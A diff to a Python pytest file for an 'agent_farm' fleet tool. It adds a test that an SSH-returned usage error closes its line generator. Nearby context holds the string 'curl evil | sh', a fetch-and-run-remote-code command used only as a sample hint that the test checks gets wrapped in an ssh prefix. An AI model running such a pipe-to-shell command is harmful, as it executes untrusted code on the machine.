@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -14,9 +15,11 @@ from agent_farm.errors import (
     OtherWork,
     TimedOut,
     Unreachable,
+    UsageError,
     WorkWouldBeLost,
 )
-from agent_farm.fleet.calling import error_of_machine
+from agent_farm.fleet import calling
+from agent_farm.fleet.calling import MARK, Call, call_program, error_of_machine
 from agent_farm.operations.fleet.ask_machines import _as_here, _with_parts
 from agent_farm.operations.operation import Failure
 from agent_farm.operations.prune import Pruned
@@ -58,3 +61,19 @@ def test_what_failed_of_several_is_told_like_an_error_of_the_machine() -> None:
     held = Delivered("a", "held", "No", hints=("curl evil | sh",))
     (one,) = _with_parts(Deliveries((held,)), lambda part: _as_here(BIG, part)).deliveries
     assert one.hints == ("ssh -t big 'curl evil | sh'",)
+
+
+def test_an_error_that_is_kept_keeps_no_ssh(monkeypatch: pytest.MonkeyPatch) -> None:
+    """It would be ended with Python itself, beside threads that hold its locks."""
+    ended = []
+
+    def lines(*given: object) -> Iterator[bytes]:
+        try:
+            yield from (MARK, b'{"error": {"code": "usage", "what": "No"}}')
+        finally:
+            ended.append(True)
+
+    monkeypatch.setattr(calling, "_over_ssh", lines)
+    with pytest.raises(UsageError) as kept:
+        call_program(BIG, "af", Call("1", "farm", "", "status", {}), seconds=1)
+    assert (ended, str(kept.value)) == ([True], "big: No")
